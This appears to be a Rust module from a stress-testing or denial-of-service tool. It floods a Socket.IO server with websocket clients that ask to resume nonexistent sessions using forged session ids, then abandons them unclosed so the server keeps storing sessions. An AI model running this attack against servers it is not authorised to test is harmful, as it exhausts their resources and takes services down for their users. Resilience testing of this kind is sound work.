//! Socket.IO clients that want to return to sessions that do not exist, and are gone soon.

use std::time::Duration;

use anyhow::Result;

use super::{
    Attack, Tally, count,
    peer::{Peer, Peers},
};
use crate::websocket::frame;

/// The time between two rounds.
const STROKE: Duration = Duration::from_millis(10);

/// The number of clients that connect in a round: the row is not about handshakes.
const CONNECTS: usize = 2;

/// The tally's name for clients that have asked for a session.
pub(crate) const RETURNS: &str = "returns";

/// Clients that want to return.
pub(super) struct Returns {
    pub(super) peers: Peers,
    /// The number of clients so far.
    pub(super) asked: u64,
}

impl Returns {
    fn connect(&mut self) -> Result<Peer> {
        let path = "/socket.io/?EIO=4&transport=websocket";
        let mut peer = Peer::ask(self.peers.server, path, "")?;
        peer.wait_for_open()?;
        self.asked += 1;
        // The form is right, so that the server looks for the session.
        let auth = format!(
            r#"40{{"pid":"{:021}A","offset":"AAAAAAAAAAA.1"}}"#,
            self.asked
        );
        peer.unsent = frame(0x1, auth.as_bytes()).to_bytes();
        Ok(peer.unblock()?)
    }
}

impl Attack for Returns {
    fn stroke(&mut self, tally: &mut Tally) -> Result<Duration> {
        // The oldest leave without a word, so that the server stores their sessions.
        let excess = (self.peers.connected.len() + CONNECTS).saturating_sub(self.peers.count);
        self.peers
            .connected
            .drain(..excess.min(self.peers.connected.len()));
        for _ in 0..CONNECTS {
            let peer = self.connect()?;
            self.peers.connected.push(peer);
        }
        for peer in &mut self.peers.connected {
            peer.ignore_input();
            if !peer.unsent.is_empty() {
                peer.send();
                count(tally, RETURNS, u64::from(peer.unsent.is_empty()));
            }
        }
        Ok(STROKE)
    }
}
